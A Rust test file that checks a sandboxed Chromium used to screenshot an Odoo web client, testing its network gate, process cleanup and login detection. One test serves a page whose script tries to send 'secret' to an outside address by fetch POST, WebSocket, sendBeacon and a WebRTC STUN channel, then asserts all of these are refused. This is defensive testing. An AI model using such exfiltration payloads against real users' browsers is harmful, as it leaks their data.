//! A real Chromium on a page that asks for what it must not get. Needs the testbed (`LIFEBOAT_TESTBED=1`).

use std::{collections::BTreeSet, net::IpAddr, sync::Mutex};

use lifeboat_model::{check::Verdict, secret::Secret};
use lifeboat_odoo::login::SandboxLogin;
use lifeboat_testkit::testbed;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpListener, UdpSocket},
};

use super::*;

/// An address of this host that is not loopback. Nothing is sent: the kernel alone is asked which it would use.
async fn other_address() -> IpAddr {
    let socket = UdpSocket::bind("0.0.0.0:0").await.unwrap();
    socket.connect("192.0.2.1:9").await.unwrap();
    socket.local_addr().unwrap().ip()
}

/// Answers every request with the page, and keeps the requests.
async fn odoo(page: String, requests: Arc<Mutex<Vec<String>>>) -> Url {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}/", listener.local_addr().unwrap());
    tokio::spawn(async move {
        loop {
            let (mut connection, _) = listener.accept().await.unwrap();
            let mut head = vec![0; 8192];
            let read = connection.read(&mut head).await.unwrap();
            requests.lock().unwrap().push(String::from_utf8_lossy(&head[..read]).into_owned());
            let head = format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n", page.len());
            let _ = connection.write_all(head.as_bytes()).await;
            let _ = connection.write_all(page.as_bytes()).await;
        }
    });
    base.parse().unwrap()
}

#[tokio::test]
async fn the_browser_reaches_odoo_and_nothing_else() {
    if !testbed::enabled() {
        return;
    }
    let outside = TcpListener::bind((other_address().await, 0)).await.unwrap();
    let local = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let (out, near) = (outside.local_addr().unwrap(), local.local_addr().unwrap());
    let requests = Arc::new(Mutex::new(Vec::new()));
    let page = format!(
        "<h1 class='o_main_navbar'>Lifeboat</h1><div class='o_action_manager'><p>shown</p></div><img src='http://{out}/picture.png'><img src='http://{near}/picture.png'>\
         <img src='https://{out}/picture.png'><img src='http://example.invalid/picture.png'>\
         <script>fetch('/web/webclient/menus'); fetch('http://{out}/said', {{method: 'POST', mode: 'no-cors', body: 'secret'}}); \
         new WebSocket('ws://{out}/socket'); navigator.sendBeacon('http://{out}/beacon', 'secret'); \
         new RTCPeerConnection({{iceServers: [{{urls: 'stun:{out}'}}]}}).createDataChannel('x');</script>"
    );
    let base = odoo(page, Arc::clone(&requests)).await;
    let gate = Arc::new(Gate::new(&base, Secret::new("session_id=ours")).unwrap());
    let kit = browser::Kit::find().unwrap_or_else(|why| panic!("{why}"));
    let shot =
        tokio::time::timeout(LIMIT * 8, browser::shoot(&kit, &base.join("/web").unwrap(), &gate, LIMIT * 4)).await;
    let shot = shot.unwrap().unwrap();

    assert!(shot.png.starts_with(PNG) && shot.shown, "{} bytes", shot.png.len());
    let requests = requests.lock().unwrap().clone();
    assert!(requests.iter().any(|head| head.starts_with("GET /web/webclient/menus ")), "{requests:#?}");
    assert!(requests.iter().all(|head| head.contains("\r\nCookie: session_id=ours\r\n")), "{requests:#?}");
    let seen = gate.seen();
    assert!(seen.refused >= 4 && !seen.login, "{seen:?}");
    // Whoever came is in the backlog of the listener.
    for listener in [&outside, &local] {
        let came = futures::FutureExt::now_or_never(listener.accept());
        assert!(came.is_none(), "somebody came: {came:?}");
    }
}

#[tokio::test]
async fn a_browser_that_is_not_waited_for_ends_with_all_its_processes() {
    if !testbed::enabled() {
        return;
    }
    let requests = Arc::new(Mutex::new(Vec::new()));
    // A page that is never done: the script holds the browser.
    let base = odoo("<script>for (;;) {}</script>".to_owned(), Arc::clone(&requests)).await;
    let gate = Arc::new(Gate::new(&base, Secret::new("session_id=ours")).unwrap());
    let kit = browser::Kit::find().unwrap_or_else(|why| panic!("{why}"));
    let mark = base.join("/web?never").unwrap();
    let before = processes();
    let shot = tokio::spawn(async move { browser::shoot(&kit, &mark, &gate, LIMIT * 8).await });
    let begun = || !requests.lock().unwrap().is_empty();
    await_that(begun, "the browser asks for the page").await;
    let started: BTreeSet<u32> = processes().difference(&before).copied().collect();
    assert!(started.len() > 2, "{started:?}");
    shot.abort();
    await_that(|| processes().is_disjoint(&started), "the browser's processes end").await;
}

#[tokio::test]
async fn whoever_is_logged_in_is_shown_the_web_client() {
    if !testbed::enabled() {
        return;
    }
    let kit = browser::Kit::find().unwrap_or_else(|why| panic!("{why}"));
    for (variable, address, database) in [
        ("LIFEBOAT_TESTBED_ODOO_URL", "http://127.0.0.1:58069", "demo"),
        ("LIFEBOAT_TESTBED_ODOO14_URL", "http://127.0.0.1:58014", "demo14"),
    ] {
        let base: Url = testbed::setting(variable, address).parse().unwrap();
        let login = SandboxLogin { id: 2, login: "admin".into(), password: testbed::secret("odoo-admin.password") };
        let session = Session::login(base.clone(), database, &login, LIMIT * 4).await.unwrap();
        let gate = Arc::new(Gate::new(&base, session.cookie().unwrap()).unwrap());
        let page = base.join(WEB_CLIENT).unwrap();
        let shot = browser::shoot(&kit, &page, &gate, LIMIT * 4).await.unwrap();
        assert!(shot.shown && !gate.seen().login, "{database}: {:?}", gate.seen());
        // The same page for whoever is not logged in.
        let gate = Arc::new(Gate::new(&base, Secret::new("session_id=none")).unwrap());
        let shot = browser::shoot(&kit, &page, &gate, Duration::from_secs(3)).await.unwrap();
        assert!(!shot.shown && gate.seen().login, "{database}: {:?}", gate.seen());
    }
}

/// Processes that run as nobody.
fn processes() -> BTreeSet<u32> {
    use std::os::unix::fs::MetadataExt as _;
    let entries = std::fs::read_dir("/proc").unwrap().flatten();
    let ids = entries.filter_map(|entry| Some((entry.file_name().to_str()?.parse().ok()?, entry.metadata().ok()?)));
    ids.filter(|(_, about)| about.uid() == 65534).map(|(id, _)| id).collect()
}

async fn await_that(holds: impl Fn() -> bool, what: &str) {
    for _ in 0..300 {
        if holds() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("not within 30 s: {what}");
}

#[test]
fn only_the_web_client_passes() {
    let gate = |path: &str| {
        let gate = Gate::new(&"http://127.0.0.1:8069/".parse().unwrap(), Secret::new("session_id=x")).unwrap();
        gate.note(path);
        gate
    };
    let picture = Picture { png: PNG.to_vec(), sha256: digest(PNG) };
    let verdict = |shown: bool, path: &str| judge("demo", &picture, shown, &gate(path)).verdict;
    assert_eq!(verdict(true, "/web"), Verdict::Passed);
    assert!(matches!(verdict(false, "/web"), Verdict::NotExecuted(_)));
    assert!(matches!(verdict(false, "/web/login"), Verdict::Failed(_)));
}
